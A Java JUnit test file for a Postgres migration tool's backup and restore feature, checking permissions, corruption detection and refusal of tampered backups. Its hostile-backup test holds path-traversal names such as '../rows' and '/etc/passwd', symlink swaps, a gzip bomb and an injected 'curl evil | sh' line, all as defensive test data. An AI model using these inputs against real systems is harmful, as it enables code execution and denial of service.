package dev.aludel.postgres.backup;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.aludel.core.Migrator;
import dev.aludel.core.backup.Backup;
import dev.aludel.core.error.RefusedException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A backup that is not, to the last byte, what was written does nothing to a database. */
class FilesTest {

    private static final int FLIPS = Integer.getInteger("aludel.flips", 1000);

    private static final int HOSTILE = Integer.getInteger("aludel.hostile", 500);

    private static final String DROP = "ALTER TABLE t DROP v";

    @TempDir
    private Path directory;

    private Store store;
    private Migrator migrator;
    private Path backup;
    private List<String> now;

    @BeforeEach
    void backUp() throws Exception {
        store = new Store(directory)
                .run("CREATE TABLE t (id int PRIMARY KEY, v text);"
                        + " INSERT INTO t SELECT g, md5(g::text) FROM generate_series(1, 60) g");
        migrator = store.migrator(Store.written("aaaa", DROP, "ALTER TABLE t ADD v text"));
        backup = migrator.upgradeToHead().backedUp().backups().get(0);
        now = store.rows();
    }

    @AfterEach
    void drop() {
        store.close();
    }

    private static List<Path> files(Path backup) throws IOException {
        try (Stream<Path> files = Files.list(backup)) {
            return files.sorted().toList();
        }
    }

    private Path copy(String name) throws IOException {
        Path copy = Files.createDirectory(directory.resolve(name));
        for (Path file : files(backup)) {
            Files.copy(file, copy.resolve(file.getFileName()));
        }
        return copy;
    }

    private String refused(Path path) {
        try {
            migrator.backups().restore(path);
            return "";
        } catch (RefusedException e) {
            assertThat(e.reason()).isEqualTo(RefusedException.Reason.BACKUP);
            return e.getMessage();
        }
    }

    @Test
    void onlyItsOwnerReadsIt() throws Exception {
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(store.backups())))
                .isEqualTo("rwx------");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(backup)))
                .isEqualTo("rwx------");
        assertThat(files(backup))
                .hasSizeGreaterThan(2)
                .allSatisfy(file -> assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                        .isEqualTo("rw-------"));
        assertThat(backup.getFileName().toString()).matches("backup_[0-9]{8}_[0-9]{6}_[0-9]{3}_aaaa");
        System.out.println(
                "row 61: " + files(backup).size() + " of " + files(backup).size() + " files 0600 in a directory 0700");
    }

    /** Whatever the process's mask is: another process, with none, makes one. */
    @Test
    void theMaskDoesNotMatter() throws Exception {
        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        Path there = directory.resolve("unmasked");
        var process = new ProcessBuilder(
                        "sh",
                        "-c",
                        "umask 000; exec \"$@\"",
                        "sh",
                        java,
                        "-cp",
                        System.getProperty("java.class.path"),
                        Unmasked.class.getName(),
                        store.itself().url(),
                        there.toString())
                .redirectErrorStream(true)
                .start();
        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).as(said).isZero();
        try (Stream<Path> all = Files.walk(there)) {
            var modes = all.map(path -> {
                        try {
                            return (Files.isDirectory(path) ? "d" : "-")
                                    + PosixFilePermissions.toString(Files.getPosixFilePermissions(path));
                        } catch (IOException e) {
                            throw new java.io.UncheckedIOException(e);
                        }
                    })
                    .distinct();
            assertThat(modes).containsExactlyInAnyOrder("drwx------", "-rw-------");
        }
    }

    @Test
    void everyFlipIsFound() throws Exception {
        var random = new Random(62);
        int found = 0;
        Path copy = copy("flipped");
        for (int i = 0; i < FLIPS; i++) {
            var all = files(copy);
            Path file = all.get(i % all.size());
            byte[] bytes = Files.readAllBytes(file);
            byte[] flipped = bytes.clone();
            flipped[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
            Files.write(file, flipped);
            found += refused(copy).isEmpty() ? 0 : 1;
            Files.write(file, bytes);
        }
        assertThat(store.rows()).isEqualTo(now);
        assertThat(found).isEqualTo(FLIPS);
        System.out.println("row 62: " + found + " of " + FLIPS + " flipped bits found");
    }

    @Test
    void whatIsCutIsFound() throws Exception {
        int found = 0;
        int cuts = 0;
        Path copy = copy("cut");
        for (Path file : files(copy)) {
            byte[] bytes = Files.readAllBytes(file);
            for (int i = 0; i < 20; i++) {
                cuts++;
                Files.write(file, java.util.Arrays.copyOf(bytes, bytes.length * i / 20));
                found += refused(copy).isEmpty() ? 0 : 1;
            }
            Files.delete(file);
            cuts++;
            found += refused(copy).isEmpty() ? 0 : 1;
            Files.write(file, bytes);
        }
        assertThat(found).isEqualTo(cuts);
        assertThat(store.rows()).isEqualTo(now);
        System.out.println("row 62: " + found + " of " + cuts + " truncations found");
        migrator.backups().restore(copy);
        assertThat(store.ask("SELECT count(*)::text FROM t WHERE v = md5(id::text)"))
                .containsExactly("60");
    }

    /** A manifest that was made to fit what it says. */
    private static void rewrite(Path backup, String from, String to) throws Exception {
        Path manifest = backup.resolve("manifest");
        String text = Files.readString(manifest);
        String body = text.substring(0, text.lastIndexOf("sha256\t"));
        assertThat(body).contains(from);
        String changed = body.replace(from, to);
        Files.writeString(manifest, changed + "sha256\t" + sha256(changed.getBytes(StandardCharsets.UTF_8)) + "\n");
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    private static final List<String> NAMES = List.of(
            "../rows",
            "/etc/passwd",
            "..",
            ".",
            "",
            "a/b",
            "a\\b",
            "rows-0001.copy.gz/..",
            "C:\\x",
            "manifest",
            "con",
            "rows-0001.copy.gz ",
            "ROWS-0001.COPY.GZ",
            "\u202erows",
            "rows-00011.copy.gz",
            "-rf",
            "~root",
            "%2e%2e",
            "x\u0000y",
            "schema-0001.sql");

    @Test
    void hostileOnesAreRefused() throws Exception {
        Path outside = Files.writeString(directory.resolve("outside"), "untouched");
        int refused = 0;
        long began = System.nanoTime();
        for (int i = 0; i < HOSTILE; i++) {
            Path copy = copy("hostile" + i);
            Path rows = files(copy).stream()
                    .filter(file -> file.toString().endsWith(".gz"))
                    .findFirst()
                    .orElseThrow();
            String name = String.valueOf(rows.getFileName());
            switch (i % 10) {
                case 0, 1 ->
                    rewrite(copy, "\t" + name + "\t", "\t" + NAMES.get(i / 10 * 2 % NAMES.size() + i % 2) + "\t");
                case 2 -> {
                    Files.delete(rows);
                    Files.createSymbolicLink(rows, outside);
                }
                case 3 -> {
                    Path manifest = copy.resolve("manifest");
                    Files.move(manifest, directory.resolve("manifest" + i));
                    Files.createSymbolicLink(manifest, directory.resolve("manifest" + i));
                }
                case 4 -> bomb(copy, rows);
                case 5 -> {
                    String text = Files.readString(copy.resolve("manifest"));
                    String part = text.substring(text.indexOf("part\t"), text.indexOf("columns\t"));
                    rewrite(
                            copy,
                            part,
                            part
                                    + text.substring(
                                            text.indexOf("columns\t"),
                                            text.indexOf("part\t", text.indexOf("columns\t")))
                                    + part);
                }
                case 6 -> {
                    Files.delete(rows);
                    Files.createDirectory(rows);
                }
                case 7 -> {
                    Path real = Files.move(copy, directory.resolve("moved" + i));
                    Files.createSymbolicLink(copy, real);
                }
                case 8 -> rewrite(copy, "aludel-backup\t1", "aludel-backup\t" + (2 + i));
                default -> rewrite(copy, "kind\tSTEP", "kind\tSTEP\nrun\tcurl evil" + i + " | sh");
            }
            refused += refused(copy).isEmpty() ? 0 : 1;
        }
        assertThat(refused).isEqualTo(HOSTILE);
        assertThat(Files.readString(outside)).isEqualTo("untouched");
        assertThat(store.rows()).isEqualTo(now);
        System.out.println("row 63: " + refused + " of " + HOSTILE + " hostile backups refused in "
                + (System.nanoTime() - began) / 1_000_000 + " ms, 0 written outside");
    }

    /** 200 MB in 200 KB, whose size and hash the manifest tells as they are; what comes of it, it does not. */
    private static void bomb(Path copy, Path rows) throws Exception {
        String old = sha256(Files.readAllBytes(rows));
        long size = Files.size(rows);
        var bytes = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(bytes)) {
            byte[] nothing = new byte[1 << 20];
            for (int i = 0; i < 20; i++) {
                out.write(nothing);
            }
        }
        Files.write(rows, bytes.toByteArray());
        rewrite(copy, "\t" + size + "\t" + old, "\t" + bytes.size() + "\t" + sha256(bytes.toByteArray()));
    }

    @Test
    void rowsThatAreNoneLeaveEverythingAsItWas() throws Exception {
        Path copy = copy("wrong");
        Path rows = files(copy).stream()
                .filter(file -> file.toString().endsWith(".gz"))
                .findFirst()
                .orElseThrow();
        String old = sha256(Files.readAllBytes(rows));
        long size = Files.size(rows);
        byte[] text = "1\tone\nnot a number\ttwo\n".getBytes(StandardCharsets.UTF_8);
        var bytes = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(bytes)) {
            out.write(text);
        }
        Files.write(rows, bytes.toByteArray());
        Backup read = migrator.backups().list().get(0);
        long length = read.manifest().parts().get(0).length();
        rewrite(
                copy,
                "\t" + length + "\t" + size + "\t" + old,
                "\t" + text.length + "\t" + bytes.size() + "\t" + sha256(bytes.toByteArray()));
        assertThatThrownBy(() -> migrator.backups().restore(copy)).hasMessageContaining("cannot be put back");
        assertThat(store.rows()).isEqualTo(now);
        assertThat(store.heads()).containsExactly("aaaa");
    }

    @Test
    void listsAndKeepsTheNewest() throws Exception {
        var scripts = new ArrayList<Store.Change>();
        scripts.add(Store.written("aaaa", DROP, "ALTER TABLE t ADD v text"));
        for (int i = 0; i < 12; i++) {
            scripts.add(
                    Store.written("b" + i, "DELETE FROM t WHERE id = " + (i + 1), "", i == 0 ? "aaaa" : "b" + (i - 1)));
        }
        Files.createDirectory(store.backups().resolve("backup_20200101_000000_000_mine"));
        for (int i = 0; i < 12; i++) {
            store.builder(scripts.toArray(Store.Change[]::new))
                    .backups(store.settings().keep(5))
                    .build()
                    .upgradeTo("+1");
        }
        var left = migrator.backups().list();
        assertThat(left).extracting(one -> one.manifest().revision()).containsExactly("b11", "b10", "b9", "b8", "b7");
        assertThat(left).allMatch(one -> one.size() > 100);
        assertThat(store.backups().resolve("backup_20200101_000000_000_mine")).isDirectory();
    }
}
